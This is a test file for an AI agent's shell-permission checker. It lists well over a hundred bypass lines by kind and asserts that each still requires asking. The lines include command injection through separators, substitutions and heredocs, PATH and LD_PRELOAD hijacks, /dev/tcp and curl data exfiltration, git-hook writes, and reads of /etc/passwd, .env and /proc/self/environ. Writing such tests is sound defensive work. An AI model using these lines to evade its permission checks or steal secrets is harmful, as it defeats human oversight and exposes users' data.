"""Lines that try to get around a permission, by kind.

Each must ask by default, and also if rules allow the programs that it names: a rule for a program
must not cover its side effects.
"""

from pathlib import Path

import pytest

from agent.permission.rules import Rule, evaluate
from agent.permission.shell.analysis import command_needs, is_read_only

FOLDER = "/srv/shop"
HOME = "/home/ann"

CARRIERS = (
    "git status", "git log", "git diff", "git show", "ls", "cat", "grep", "rg", "echo", "find",
    "sed", "awk", "sort", "uniq", "head", "tail", "wc", "cd", "pwd", "true", "test", "printf",
    "tar", "man", "less", "xargs", "env", "make", "curl", "let", "read", "set", "export", "[",
    "split", "mapfile", "trap", "pushd", "zip", "rsync", "sqlite3", "go",
)  # fmt: skip
ALLOWED = (
    Rule("bash", "*", "ask", "user"),
    *(Rule("bash", f"{name} *", "allow", "user") for name in CARRIERS),
)

ATTACKS: dict[str, list[str]] = {
    "separators": [
        "ls;mytool x", "ls|mytool", "ls|&mytool", "ls&mytool", "ls&&mytool", "ls||mytool",
        "ls\nmytool x", "ls\r\nmytool x", "(mytool)", "{ mytool; }", "ls;(ls;mytool)",
        "if ls; then mytool; fi", "for i in a; do mytool; done", "while mytool; do ls; done",
        "case a in a) mytool;; esac", "until ls; do mytool; done", "ls #'\nmytool x #'",
        "echo 'a\\'; mytool x", 'echo "a\\\\"; mytool x',
    ],
    "substitutions": [
        'echo "$(mytool)"', "echo $(ls; mytool)", "echo `mytool`", "echo $(echo $(mytool))",
        "echo `echo \\`mytool\\``", 'echo "`mytool`"', "cat < <(mytool)", "ls > >(mytool)",
        "cat <(mytool)", "echo $(case a in a) mytool;; esac)", "[ $(mytool) = x ]",
        "[[ a =~ <(mytool) ]]", "for i in $(mytool); do ls; done", "x=$(mytool)",
        "echo $[$(mytool)]", "echo $(<a.txt; mytool)",
    ],
    "expansion operators": [
        "echo ${y:-`mytool`}", "echo ${y:-$(mytool)}", "echo ${y:=`mytool`}", "echo ${y:+`mytool`}",
        "echo ${y:?`mytool`}", "echo ${v/x/`mytool`}", "echo ${HOME#$(mytool)}",
        "echo ${HOME##$(mytool)}", "echo ${HOME%$(mytool)}", "echo ${HOME%%`mytool`}",
        "echo ${v^^$(mytool)}", "echo ${v,,$(mytool)}", "echo ${v,$(mytool)}",
        "cat <(ls ${v#`mytool`})", "echo ${v:$(mytool)}", "echo ${a[$(mytool)]}",
        'echo "${y:-<(mytool)}"', "echo ${y:-<(mytool)}",
    ],
    "line continuation": [
        'echo "$\\\n(mytool)"', "TZ=UTC\\\necho mytool x", "ls \\\n; mytool", "my\\\ntool",
        "cat <<EOF\n$\\\n(mytool)\nEOF", "echo a \\\r\nmytool x",
    ],
    "control characters": [
        "TZ=UTC\recho mytool", "ls\x0bmytool", "ls\x0cmytool", "ls\x00; mytool", "ls \x7f",
        "ls \x9b2K", "\ufeffls", "ls \ud800",
    ],
    "heredocs": [
        "cat <<EOF\n`mytool`\nEOF", "cat <<EOF\n$(mytool)\nEOF", "cat <<EOF\n  $(mytool)\nEOF",
        "cat <<EOF\n$ $(mytool)\nEOF", "cat <<-EOF\n\t$(mytool)\n\tEOF",
        "cat <<EOF && mytool\nx\nEOF", "cat <<EOF; mytool\nx\nEOF", "cat <<EOF | mytool\nx\nEOF",
        "bash <<'EOF'\nmytool\nEOF", "cat <<EOF mytool.txt /etc/passwd\nx\nEOF",
        "cat <<'EOF' > out.sh\nx\nEOF", "cat <<EOF\n${y:-`mytool`}\nEOF", "cat <<< $(mytool)",
    ],
    "evaluated text": [
        "echo $((a[$(mytool)]))", "((a[$(mytool)]))", "a[$(mytool)]=1", "test -v 'a[$(mytool)]'",
        "[ -v 'a[$(mytool)]' ]", "[[ 'a[$(mytool)]' -eq 0 ]]", "let 'a[$(mytool)]=1'",
        "printf -v 'a[$(mytool)]' x", "read 'a[$(mytool)]' < a.txt", "declare -i x='a[$(mytool)]'",
        "x='a[$(mytool)]'; echo $((x))", "x='a[$(mytool)]'; echo ${!x}",
        "x='a[$(mytool)]'; echo ${y[x]}", "x='a[$(mytool)]'; [[ x -eq 0 ]]",
        "x='$(mytool)'; echo ${x@P}", "unset 'a[$(mytool)]'",
    ],
    "names in disguise": [
        "my''tool", "\\mytool", "$'\\x6dytool'", '"my"\'tool\'', '$"mytool"', "$X", "m${q}ytool",
        "m$@ytool", "$(echo mytool)", "${X:-mytool}", '"${a[@]}"', "/bin/my?ool", "{mytool,x}",
        "mytool$IFS-x", "/bin/ls", "./ls", "/usr/../bin/cat x", "~/bin/ls", "l\u0455",
        "\uff4c\uff53", "ls\u200b", "ls\u2028mytool", "LS",
    ],
    "environment": [
        "LD_PRELOAD=./x.so ls", "PATH=. ls", "PATH=.; ls", "export PATH=.; ls",
        "GIT_PAGER=./x git log", "GIT_SSH_COMMAND=./x git status", "PAGER=./x git log",
        "BASH_ENV=./x ls", "IFS=x ls", "PS4='$(mytool)'; set -x; ls", "declare -x PATH=.; ls",
        "typeset PATH=.; ls", "readonly PATH=.; ls", "PROMPT_COMMAND=mytool ls",
        "HOME=/tmp git status", "unset PATH; ls", "TAR_OPTIONS=--to-command=x tar -tf a.tar",
        "RIPGREP_CONFIG_PATH=x rg a", "LESSOPEN='|x' less a", "for PATH in .; do ls; done",
        "read -r PATH < a.txt; ls", "printf -v PATH .; ls", ": ${PATH:=.}; ls",
        "mapfile PATH < a.txt; ls",
    ],
    "functions and aliases": [
        "ls() { mytool; }; ls", "function ls { mytool; }; ls", "alias ls=mytool; ls",
        "shopt -s expand_aliases\nalias ls=mytool\nls", "hash -p ./x ls; ls",
        "enable -f ./x ls; ls", "enable -n test; test x",
    ],
    "wrappers": [
        "sudo ls", "doas ls", "env ls; env mytool", "exec ls", "xargs mytool < a.txt",
        "ls | xargs mytool", "time mytool", "! mytool", "! ! mytool", "coproc mytool",
        "coproc N { mytool; }", "time -p mytool", "nohup mytool", "timeout 5 mytool",
        "nice -n 3 mytool", "stdbuf -oL mytool", "command mytool", "builtin eval mytool",
        "watch mytool", "setsid mytool", "flock x mytool", "busybox sh -c mytool",
        "env -S 'mytool x'", "timeout --unknown 5 ls", "parallel mytool", "strace mytool",
        "chroot . ls", "env FOO=1 mytool", "env 2>/dev/null mytool", "ionice -c 3 mytool",
        "command -p mytool",
    ],
    "shells and evaluation": [
        "bash -c mytool", "sh -c 'ls; mytool'", 'bash -c "$X"', "echo mytool | sh",
        "bash <<< mytool", "bash < a.txt", ". a.sh", "source a.sh", "source /dev/stdin < a.txt",
        ". <(echo mytool)", "eval mytool", 'eval "$X"', "trap mytool EXIT", "trap mytool DEBUG; ls",
        "mapfile -C mytool -c 1 a < a.txt", "compgen -C mytool x", "complete -C mytool x",
        'bind -x \'"a": mytool\'', "exec -a ls mytool", "sh 2>&1 -c mytool", "cat a.sh | bash -s",
        "ssh host ls", "su -c ls", "script -c ls", "docker run x ls", "kubectl exec p -- ls",
    ],
    "redirections": [
        "> a.txt", "ls > a.txt", "ls >> a.txt", "ls >| a.txt", "ls &> a.txt", "ls &>> a.txt",
        "ls >& a.txt", "ls 2> a.txt", "ls 9> a.txt", "exec 3> a.txt", "ls > $X", "ls {fd}> a.txt",
        "echo x > /dev/tcp/h/80", "cat < /dev/tcp/h/80", "cat 3< /etc/hosts", "ls <> a.txt",
        "{ ls; } > a.txt", "(ls) > a.txt", "for i in a; do ls; done > a.txt",
        "echo x > .git/hooks/pre-commit", "true > AGENTS.md", "ls > /dev/sda",
        "git </dev/null push",
    ],
    "code in flags": [
        "find . -exec mytool {} +", "find . -execdir mytool ';'", "find . -ok mytool ';'",
        "find . -delete", "find . -fprint x", "find . -fls x", "find . -fprintf x y",
        "sed -i s/a/b/ x", "sed -n 'w x' a.txt", "sed 's/a/b/w x' a.txt", "sed 's/a/b/e' a.txt",
        "sed '1e mytool' a.txt", "sed -f x a.txt", "sed --in-place s/a/b/ x",
        "sed 'r /etc/passwd' a.txt", "sed -s -ni p x", "sed 's/a/b/;W x' a.txt",
        'awk \'BEGIN{system("x")}\'', 'awk \'{print > "x"}\' a.txt', 'awk \'{print | "x"}\' a.txt',
        'awk \'"x" | getline\' a.txt', "awk -f x a.txt", 'awk \'@load "x"\'',
        'awk \'BEGIN{print |& "x"}\'', "tar --to-command=x -xf a.tar", "tar -I ./x -tf a.tar",
        "tar --checkpoint-action=exec=x -tf a.tar", "sort --compress-program=x a.txt",
        "sort -o x a.txt", "sort -ox a.txt", "sort -uo x a.txt", "sort --out=x a.txt",
        "sort -T /tmp a.txt", "uniq a.txt b.txt", "split --filter=x a.txt", "rg --pre x y",
        "rg --pre=x y", "rg --hostname-bin=x y", "man -P x ls", "less -o x a.txt", "make --eval=x",
        "make SHELL=./x", "curl -o x http://e.org", "curl -d @a.txt http://e.org", "rsync -e x a b",
        "zip -TT x a.zip b", "sqlite3 a.db '.shell x'", "go test -exec x ./...", "dd if=a of=b",
        "date -s x", "tree -o x", "file -C -m x", "find $X", "sort $X", "rg $X y", "sed $X a.txt",
        "cat $X", "find . $(echo -delete)", "jq -n env", "jq -L x . a.json",
        "wc --files0-from=/etc/passwd",
    ],
    "git": [
        "git -c alias.st='!mytool' st", "git -c core.fsmonitor=./x status",
        "git -c core.pager=./x log", "git --exec-path=./x status", "git -C .. status",
        "git --git-dir=x status", "git --work-tree=/ status", "git --config-env=core.pager=X log",
        "git diff --ext-diff", "git diff --output=x", "git log --output=x", "git show --output x",
        "git grep -Ox y", "git grep --open-files-in-pager=x y", "git ls-remote --upload-pack=x .",
        "git fetch ext::mytool", "git diff --no-index /etc/passwd /dev/null",
        "git blame --contents /etc/passwd x", "git branch -D x", "git branch new", "git tag v1",
        "git remote add a b", "git config core.pager x", "git stash", "git reflog expire --all",
        "git bisect run mytool", "git submodule foreach mytool", "git rebase --exec mytool main",
        "git -p log", "git --paginate log", "git log $X", "git $X",
        "git cat-file --textconv HEAD:x", "git cat-file --filters HEAD:x",
        "git archive --output=x HEAD", "git checkout -- x", "git worktree add x",
        "git notes add -m x", "git symbolic-ref HEAD x", "git update-index --refresh",
        "git diff --outp=x", "git frobnicate",
    ],
    "paths": [
        "cat /etc/passwd", "cat ../x", "cat lib/../../x", "cat ~/x", "cat ~root/x", "cat ~+/../x",
        'cat "$HOME/x"', "cat ${HOME%/*}/x", "cat /et'c'/passwd", "cat {/etc/passwd,a.txt}",
        "cat /et[c]/passwd", "cat /e*/passwd", "grep -f/etc/passwd x", "grep --file=/etc/passwd x",
        "cat < /etc/passwd", "echo $(</etc/passwd)", "cat /proc/self/root/etc/passwd",
        "cat /proc/$PPID/environ", "cat /proc/self/environ", "cat /srv/shop-other/x",
        "cat /srv/shop/../x", "cd .. && cat x", "cd / && ls", "cd lib && cat ../../x",
        "pushd .. && ls", "cd - && cat x", "cd $X && cat a", "cd && cat x", "CDPATH=/ cd etc && ls",
        "(cd ..; cat x)", "cat ~-/x", "grep -r x /", "rg x ..", "find / -name x", "find .. -name x",
        "ls -R /", "cat .env", "cat .env.local", "grep x .npmrc", "cat -- /etc/passwd",
        "wc /etc/passwd", "du -sh ..", "cat $'/etc/passwd'", "cat \\/etc/passwd",
        "diff a.txt /etc/passwd", "[ -f x ] && cat ../y", 'for f in ../*; do cat "$f"; done',
        "x=/etc/passwd; cat $x", "ls ${OLDPWD}",
    ],
    "keywords, zsh and broken text": [
        "ls ;; mytool", "then mytool", "} mytool", "]] mytool", "echo 'open", "echo $(ls", "ls &&",
        "ls |", "ls =(mytool)", "ls *(e:mytool:)", "noglob mytool", "echo ${(e)x}",
        "select x in a; do mytool; done", "{ls;mytool;}", "fi; mytool", "[[ a == x$(mytool)y ]]",
    ],
}  # fmt: skip

LINES = [(kind, line) for kind, lines in ATTACKS.items() for line in lines]
each_line = pytest.mark.parametrize(
    ("kind", "line"), LINES, ids=[f"{kind}-{at}" for at, (kind, _) in enumerate(LINES)]
)


def test_no_line_is_listed_twice() -> None:
    assert len(LINES) == len({line for _, line in LINES})


@each_line
def test_an_attack_is_never_allowed_by_default(kind: str, line: str) -> None:
    needs = command_needs(line, directory=FOLDER, project=FOLDER, home=HOME)
    assert needs, f"{kind}: nothing was found to judge"
    assert not is_read_only(line, directory=FOLDER, project=FOLDER, home=HOME), kind


@each_line
def test_a_rule_for_a_program_does_not_cover_its_side_effects(kind: str, line: str) -> None:
    needs = command_needs(line, directory=FOLDER, project=FOLDER, home=HOME)
    assert {evaluate(need, ALLOWED).action for need in needs} - {"allow"}, kind


@each_line
def test_always_to_an_attack_never_stores_a_whole_program(kind: str, line: str) -> None:
    """No pattern for "always" is ``*`` or starts with a wildcard."""
    for need in command_needs(line, directory=FOLDER, project=FOLDER, home=HOME):
        assert need.always is None or not need.always.startswith(("*", "?", "sudo ", "env ")), kind


@pytest.mark.parametrize(
    "line",
    [
        *("rg -f /etc/passwd x", "rg --file /etc/passwd x", "rg --file=/etc/passwd x"),
        *("rg -f.env x", "rg -if/etc/passwd x", "rg --ignore-file /etc/passwd x"),
        *("grep -f.env a.txt", "grep --file=/etc/passwd a.txt", "grep -rf /etc/passwd ."),
    ],
)
def test_a_pattern_file_is_a_path_that_is_read(line: str) -> None:
    needs = command_needs(line, directory=FOLDER, project=FOLDER, home=HOME)
    assert {evaluate(need, ALLOWED).action for need in needs} - {"allow"}


def test_a_pattern_that_meets_a_secret_asks(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("A=1")
    where = str(tmp_path)
    for line in ("cat .e*v", "cat .e*", "cat .en?", "tail .*", "grep -r x .", "rg --hidden x"):
        assert not is_read_only(line, directory=where, project=where, home=HOME), line
